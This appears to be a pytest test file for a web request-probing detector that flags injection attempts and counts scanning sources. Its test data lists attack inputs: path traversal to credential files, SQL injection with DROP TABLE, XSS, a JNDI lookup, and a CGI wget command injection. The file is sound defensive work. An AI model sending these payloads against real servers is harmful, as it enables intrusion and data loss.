"""Which addresses carry an attack, and who is scanning."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fengkong.protection.probing import Scanners, is_injection, network_of

ATTACKS = [
    b"/../../etc/passwd",
    b"/static/..%2f..%2fkeys",
    b"/static/%252e%252e%252fkeys",
    b"/v1/decisions/1'%20OR%20'1'='1",
    b"/v1/decisions?id=1+UNION+ALL+SELECT+password+FROM+users",
    b"/x?id=1';DROP TABLE alerts--",
    b"/x?q=%3Cscript%3Ealert(1)%3C/script%3E",
    b"/x?next=javascript:alert(1)",
    b"/x?q=%22%20onerror%3Dalert(1)",
    b"/x?q=$%7Bjndi:ldap://a/b%7D",
    b"/x?q=%7B%7B7*7%7D%7D",
    b"/x?file=/etc/shadow%00.png",
    b"/x?id=1;sleep(5)",
    b"/cgi-bin/x?;wget%20http://a/b",
    b"/x?a=%0d%0aSet-Cookie:a",
]
PLAIN = [
    b"/",
    b"/favicon.ico",
    b"/v1/decisions/p-1?",
    b"/alerts/?typology=account_takeover&state=open&page=2",
    b"/search/?q=%E5%BC%A0%E4%B8%89",
    b"/search/?q=O%27Brien+and+Sons",
    b"/search/?q=select+committee+and+the+union",
    b"/policies/payments/3/?compare=2..3",
    b"/wp-login.php",
    b"/.env",
]


@pytest.mark.parametrize("address", ATTACKS)
def test_an_attack_is_known_by_its_form(address: bytes) -> None:
    assert is_injection(address)


@pytest.mark.parametrize("address", PLAIN)
def test_what_people_ask_for_is_none(address: bytes) -> None:
    assert not is_injection(address)


@given(st.binary(max_size=6000))
def test_whatever_is_asked_for_gets_an_answer(address: bytes) -> None:
    assert is_injection(address) in (True, False)


def test_a_source_counts_once_a_day_from_its_fifth_request_on() -> None:
    scanners = Scanners()
    assert [scanners.note("10.0.0.1", day=1) for _ in range(7)] == [False] * 4 + [
        True,
        *[False] * 2,
    ]
    assert not scanners.note("10.0.0.2", day=1)
    assert [scanners.note("10.0.0.1", day=2) for _ in range(5)] == [False] * 4 + [True]


def test_who_changes_the_last_half_of_an_address_is_the_same() -> None:
    scanners = Scanners()
    found = [scanners.note(f"2001:db8:1:2::{at:x}", day=1) for at in range(6)]
    assert found == [False] * 4 + [True, False]
    assert network_of("2001:db8:1:2:3:4:5:6") == "2001:db8:1:2::"
    assert network_of("192.0.2.7") == "192.0.2.7"
    assert network_of("unix:") == "unix:"


def test_many_sources_need_no_more_room() -> None:
    scanners = Scanners(sources=100)
    for at in range(1_000):
        scanners.note(f"10.0.{at // 250}.{at % 250}", day=1)
    assert len(scanners._asked) == 100
    busy = [
        scanners.note("10.9.9.9", day=1) or scanners.note(f"10.8.0.{at}", day=1) for at in range(5)
    ]
    assert busy == [False] * 4 + [True], "who goes on is not forgotten"
